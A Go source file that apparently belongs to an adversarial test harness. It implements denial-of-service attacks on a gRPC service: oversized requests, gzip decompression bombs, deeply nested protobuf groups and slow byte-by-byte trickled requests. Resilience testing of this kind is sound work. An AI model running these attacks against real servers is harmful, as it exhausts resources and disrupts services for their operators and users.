package hostile

import (
	"bytes"
	"compress/gzip"
	"context"
	"sync"
	"time"

	"golang.org/x/net/http2/hpack"
	"google.golang.org/protobuf/encoding/protowire"
)

// megabytes is a message as large as gRPC lets a request be.
const megabytes = 7 << 20

// strangersRequests sends large requests and shows nothing.
func strangersRequests(ctx context.Context, a Attacker) {
	body := message(false, megabytes, make([]byte, megabytes))
	requests(ctx, a, 50, func(c *framed) []byte { return c.call(receipts) }, body)
}

// healthRequests sends them to what everybody may ask.
func healthRequests(ctx context.Context, a Attacker) {
	body := message(false, megabytes, make([]byte, megabytes))
	requests(ctx, a, 50, func(c *framed) []byte { return c.call(health) }, body)
}

// answered is for how long answers are waited for.
const answered = 300 * time.Millisecond

// requests sends a body, again and again, on many connections.
func requests(ctx context.Context, a Attacker, connections int, headers func(*framed) []byte, body []byte) {
	together(ctx, connections, func(ctx context.Context) {
		withFrames(ctx, a, func(c *framed) {
			for range 20 {
				id, err := c.open(headers(c))
				if err != nil || c.send(id, body) != nil || ctx.Err() != nil {
					return
				}
			}
			pause(ctx, answered)
		})
	})
}

// bomb is zeros, as gzip has them, a thousandth of their size: it fits into the window of a
// stream, so it is unpacked, and all that are sent at once would be gigabytes. A member of
// gzip may follow another one: so one is made, or an attack could be over before its bomb is.
var bomb = sync.OnceValue(func() []byte {
	var b bytes.Buffer
	z := gzip.NewWriter(&b)
	_, _ = z.Write(make([]byte, 1<<20)) // into memory
	_ = z.Close()
	return bytes.Repeat(b.Bytes(), 48)
})

func bombs(ctx context.Context, a Attacker) {
	body := message(true, len(bomb()), bomb())
	requests(ctx, a, 10, func(c *framed) []byte {
		return c.call(streamS3, token(a.Token), hpack.HeaderField{Name: "grpc-encoding", Value: "gzip"})
	}, body)
}

// nested sends groups in groups, which no message of the API knows.
func nested(ctx context.Context, a Attacker) {
	var deep []byte
	for range 200_000 {
		deep = protowire.AppendTag(deep, 1000, protowire.StartGroupType)
	}
	body := message(false, len(deep), deep)
	for _, path := range []string{streamS3, receipts} {
		half, cancel := context.WithTimeout(ctx, time.Second/2)
		requests(half, a, 10, func(c *framed) []byte { return c.call(path, token(a.Token)) }, body)
		cancel()
	}
	<-ctx.Done()
}

// trickledRequest sends requests byte by byte, so many that they are in each other's way.
func trickledRequest(ctx context.Context, a Attacker) {
	together(ctx, 100, func(ctx context.Context) {
		withFrames(ctx, a, func(c *framed) {
			id, err := c.open(c.call(receipts, token(a.Token)))
			if err != nil || c.send(id, message(false, megabytes, nil)) != nil {
				return
			}
			for c.send(id, []byte{0}) == nil && pause(ctx, 100*time.Millisecond) {
			}
		})
	})
}
